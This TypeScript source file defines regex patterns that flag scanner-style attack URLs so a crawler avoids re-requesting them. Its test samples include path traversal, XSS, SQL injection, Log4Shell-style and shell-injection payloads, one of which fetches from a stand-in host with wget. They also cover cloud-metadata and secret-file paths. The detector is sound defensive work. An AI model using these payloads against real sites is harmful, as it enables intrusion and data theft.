/**
 * What scanners leave in a log. Such a URL shows no page that anybody reads, and asking for it again would attack the site a second
 * time, in our name. For what is fetched, not for keys: a URL that is not asked for costs nothing.
 */

import { decodings } from './hidden-secrets.ts'

/** One sign. `pattern` is looked for in path and query, as they stand and decoded, in lower case. */
export interface AttackSign {
  readonly what: string
  readonly pattern: string
  /** Path and query of which it must be found, and must not. */
  readonly hits: readonly string[]
  readonly misses: readonly string[]
}

/** A blank in a query, or a comment in its place. */
const GAP = String.raw`(?:[\s+]|/\*)`

/** Sources: https://owasp.org/www-community/attacks/, and what sqlmap, nuclei and ZAP send. */
export const ATTACK_SIGNS: readonly AttackSign[] = [
  {
    what: 'the way out of a folder, and what is looked for there',
    pattern: String.raw`(?:\.\.[/\\]){2}|/etc/(?:passwd|shadow)|/proc/self/|(?<=\b(?:win|boot))\.ini`,
    hits: ['/p?f=../../x', '/p?f=..%2f..%2fx', '/p?f=%252e%252e%252f%252e%252e%252f', '/p?f=/etc/passwd'],
    misses: ['/p?next=../cart', '/p?f=a..b/..c', '/etc/passwords?a=1'],
  },
  {
    what: 'markup and scripts',
    pattern: String.raw`<(?:script|svg|img|iframe|body|object|embed|style|video|details|math)\b|(?<=\bon(?:error|load|click|focus|mouseover))=|(?<=\bjavascript):`,
    hits: ['/p?q=%3Cscript%3Ealert(1)', '/p?q=%3Csvg/onload=alert(1)%3E', '/p?u=javascript:alert(1)'],
    misses: ['/p?q=script+for+img', '/p?price=<100', '/p?onloading=1', '/javascript/a?x=1'],
  },
  {
    what: 'templates and look-ups',
    pattern: String.raw`\$\{|\$\(|\{\{|<%|#\{`,
    hits: ['/p?q=%24%7Bjndi:ldap://x.example/a%7D', '/p?q=$(id)', '/p?q=%7B%7B7*7%7D%7D'],
    misses: ['/p?q={"a":{"b":1}}', '/p?price=$20', '/p?q=%23tag'],
  },
  {
    what: 'statements of SQL',
    pattern: [
      String.raw`\bunion${GAP}+(?:all${GAP}+|distinct${GAP}+)?select\b`,
      String.raw`\(select\b|\bselect\b[^&]{0,80}\bfrom\b[^&]{0,80}[()]`,
      String.raw`(?<=\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file|receive_message))\(`,
      String.raw`\bwaitfor${GAP}+delay\b|\b(?:drop|alter|truncate)${GAP}+table\b|\bxp_cmdshell\b|\binformation_schema\b`,
      String.raw`\b(?:or|and)${GAP}+\(?['"]?\w+['"]?${GAP}*(?:=|<|>|like\b)`,
      String.raw`['"](?:\)|--|;|\|\|)|=-?\d+['"]`,
    ].join('|'),
    hits: [
      '/p?id=1%27%20OR%201=1--',
      '/p?id=1+or+1%3D1',
      "/p?id=1'",
      '/p?id=-1%20UNION%20SELECT%201,2',
      '/p?id=sleep(5)',
    ],
    misses: [
      '/p?q=rock+and+roll&x=1',
      '/p?q=union+jack',
      "/p?q=o'reilly",
      '/p?q=%22red%22+and+%22blue%22',
      '/p?q=select+shoes',
    ],
  },
  {
    what: 'commands of a shell',
    pattern: String.raw`[;|\u0060]\s*(?:cat|wget|curl|whoami|bash|nc|ping|uname|powershell)(?![\w=-])|[;|\u0060]\s*id\s*(?:$|[&;|\u0060])`,
    hits: ['/p?f=a%3Bcat%20/x', '/p?f=|cat+x', '/p?f=;id', '/p?f=%60id%60', '/p?cd+/tmp;wget+http://x.example/a'],
    misses: ['/p?p=a.git;a=blob;id=7', '/p?cat=5&id=7', '/p?a=1;cat=5', '/p?q=curl|hair'],
  },
  {
    what: 'schemes and hosts that no page needs',
    pattern: String.raw`(?<=\b(?:php|phar|expect|gopher|dict|netdoc))://|(?<=\bfile):///|169\.254\.169\.254|(?<=\bdata):text/html`,
    hits: ['/p?f=php://filter/x', '/p?u=http://169.254.169.254/latest', '/p?u=file:///x'],
    misses: ['/p?u=https://x.example/a', '/php/a?x=1', '/p?profile=/a'],
  },
  {
    what: 'functions of PHP',
    pattern: String.raw`(?<=\b(?:eval|exec|system|passthru|shell_exec|phpinfo|base64_decode))\(|invokefunction|call_user_func|auto_prepend_file|allow_url_include`,
    hits: ['/index.php?function=call_user_func_array&vars[0]=md5', '/p?x=phpinfo()'],
    misses: ['/p?q=solar+system', '/p?eval=1'],
  },
  {
    what: 'NUL, and headers behind a line break',
    pattern: String.raw`\u0000|[\r\n][\t ]*(?:set-cookie|location|content-\w+)\s*:`,
    hits: ['/p?f=a.php%00.jpg', '/p?u=x%0d%0aSet-Cookie:a=b'],
    misses: ['/p?text=a%0d%0ab', '/p?n=%30'],
  },
  {
    what: 'files of secrets',
    pattern: String.raw`^[^?]*/\.(?:env|aws|ssh|htpasswd)(?![a-z])`,
    hits: ['/.env?x=1', '/a/.aws/credentials?x=1'],
    misses: ['/.well-known/x?a=1', '/p?f=/.env', '/.environment?x=1'],
  },
]

/** One by one: an engine runs them several times faster than joined. */
const SIGNS = ATTACK_SIGNS.map(({ pattern }) => new RegExp(pattern))

/** What most URLs have nothing of, and every sign needs. A port is nothing odd. */
const ODD =
  /[^\w\-/?&=~,@!*#.:+]|:(?!\d)|\+(?:or|and|all|select|distinct|table|delay|from)\b|\.[./]|\/\.|=169\.|\/(?:etc|proc)\//i

/** Whether asking for a URL would try to break into its site. Never throws. */
export function looksLikeAttack(url: string): boolean {
  if (!ODD.test(url.slice('https://'.length))) return false
  const texts = decodings(url.replace(/^[a-z]+:\/\/[^/?#]*/i, '')).map((text) => text.toLowerCase())
  return texts.some((text) => SIGNS.some((sign) => sign.test(text)))
}
